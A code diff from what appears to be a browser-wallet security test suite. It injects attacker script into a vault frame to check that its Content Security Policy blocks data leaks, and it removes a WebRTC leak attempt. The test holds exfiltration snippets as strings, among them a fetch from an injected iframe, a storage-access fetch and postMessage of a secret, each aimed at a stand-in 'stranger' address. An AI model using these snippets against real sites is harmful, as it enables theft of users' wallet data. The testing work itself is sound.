@@ -9,6 +9,8 @@ import { openWallet, until } from '../stage/visitor.ts'
  * with every header as it is, but that the policy also lists the hash of the attacker's script: what holds is the policy
  * and the frame that the wallet has made, and nothing else.
  *
+ * WebRTC is not among the ways: no policy of Chromium or Firefox governs it (`docs/threat-model.md`).
+ *
  * Attempts are texts: each may use `leak(name)`, an address of a stranger that nobody may ever be asked for.
  */
 export type Attempts = Readonly<Record<string, string>>
@@ -80,8 +82,6 @@ const ways = {
       "{ const frame = document.body.appendChild(document.createElement('iframe')); frame.contentWindow.fetch(leak('blank'), { mode: 'no-cors' }) }",
   },
   peers: {
-    WebRTC:
-      "{ const { hostname, port } = new URL(leak('')); const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) }",
     'storage access': "document.requestStorageAccess().then(() => fetch(leak('access')))",
     opener: "parent.parent.postMessage('secret', '*'), top.postMessage('secret', '*')",
     clipboard: "navigator.clipboard.writeText('secret')",
@@ -146,15 +146,18 @@ const attackVault =
   (attempts: Attempts): Scenario['attack'] =>
   async (ground: Ground) => {
     const { stage, openTab } = ground
-    stage.vaultFront.tamper(withScript(scriptOf(attempts, stage.urls.stranger)))
+    const tampering = withScript(scriptOf(attempts, stage.urls.stranger))
+    let isServed = false
+    stage.vaultFront.tamper((path, served) => {
+      isServed ||= path.startsWith('/vault?')
+      return tampering(path, served)
+    })
     const tab = await openTab()
     await openWallet(stage, tab)
     // A document that went to its own address is gone, and has nothing more to tell.
-    let wasThere = false
     await until(async () => {
       const vault = tab.realms().find((realm) => realm.url().startsWith(stage.urls.vault))
-      if (vault === undefined) return wasThere
-      wasThere = true
+      if (vault === undefined) return isServed
       return (
         (await vault.evaluate(() => document.documentElement.dataset.attacked, undefined).catch(() => '')) === 'yes'
       )
